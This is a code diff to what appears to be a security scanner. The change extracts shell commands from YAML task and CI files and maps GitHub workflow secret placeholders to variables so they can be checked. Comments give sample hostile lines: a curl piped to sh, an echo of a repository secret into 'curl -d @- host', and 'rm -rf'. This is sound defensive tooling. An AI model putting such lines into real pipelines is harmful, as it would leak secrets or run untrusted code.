@@ -69,7 +69,8 @@ export function yamlCommands(text: string): string {
     const value = m[3]!.trim();
     if (value !== '' && !/^[|>][-+]?$/.test(value)) {
       // Inline: a scalar, or a flow list `["sh", "-c", "…"]`.
-      if (value.startsWith('[')) out.push(flowList(value));
+      // Keys that list shell lines (`commands: [make, curl …|sh]`) hold a line per item; the others an argv.
+      if (value.startsWith('[')) out.push(/^(script|before_script|after_script|commands|cmds|steps)$/.test(m[2]!) ? flowItems(value).join('\n') : flowList(value));
       else out.push(unquote(value));
       continue;
     }
@@ -103,8 +104,20 @@ function unquote(v: string): string {
 }
 
 export function flowList(v: string): string {
-  const items = [...v.matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'|([^,[\]\s][^,\]]*)/g)].map((m) => (m[1] ?? m[2] ?? m[3] ?? '').trim());
-  return joinArgv(items);
+  return joinArgv(flowItems(v));
+}
+
+/**
+ * A workflow's `${{ secrets.NAME }}` is the repository secret NAME written into the step's shell text:
+ * judged as the variable `$NAME` (`echo ${{ secrets.PROD_TOKEN }} | curl -d @- host` sends it out).
+ */
+function workflowSecrets(commands: string): string {
+  return commands.replace(/\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}/g, '$$$1').replace(/\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/gi, '"$(env)"');
+}
+
+/** The items of a flow sequence `["a", 'b', c d]`, unquoted. */
+function flowItems(v: string): string[] {
+  return [...v.matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'|([^,[\]\s][^,\]]*)/g)].map((m) => (m[1] ?? m[2] ?? m[3] ?? '').trim());
 }
 
 /** An argv as a command line: `["sh","-c","rm -rf x"]` runs the third word as shell. */
@@ -312,7 +325,7 @@ export function deferredPlaceOf(absolutePath: string, text?: string): PlaceRule 
   if (lname === 'justfile' || lname === '.justfile') return { where: name, when: 'when `just` runs that recipe', language: 'shell', strictUnknown: false, commands: justRecipes };
   if (/^taskfile(\.dist)?\.ya?ml$/.test(lname)) return { where: name, when: 'when `task` runs that task', language: 'shell', strictUnknown: false, commands: yamlCommands };
   if (lname === 'package.json' && !l.includes('/node_modules/')) return { where: 'the scripts of package.json', when: 'when npm runs them (lifecycle scripts on every install)', language: 'shell', strictUnknown: false, commands: packageScripts };
-  if (/\/\.github\/workflows\/[^/]+\.ya?ml$/.test(l) || /\/\.gitea\/workflows\/[^/]+\.ya?ml$/.test(l)) return { where: `the CI workflow .github/workflows/${name}`, when: 'in CI on the events it names (push, schedule …)', language: 'shell', strictUnknown: false, commands: yamlCommands };
+  if (/\/\.github\/workflows\/[^/]+\.ya?ml$/.test(l) || /\/\.gitea\/workflows\/[^/]+\.ya?ml$/.test(l)) return { where: `the CI workflow .github/workflows/${name}`, when: 'in CI on the events it names (push, schedule …)', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t)) };
   if (/^(\.gitlab-ci|bitbucket-pipelines|azure-pipelines|\.travis|\.drone|appveyor|cloudbuild|buildspec|codemagic)\.ya?ml$/.test(lname) || /\/\.circleci\/config\.ya?ml$/.test(l) || /\/\.buildkite\/[^/]+\.ya?ml$/.test(l)) {
     return { where: `the CI configuration ${name}`, when: 'in CI on the events it names', language: 'shell', strictUnknown: false, commands: yamlCommands };
   }
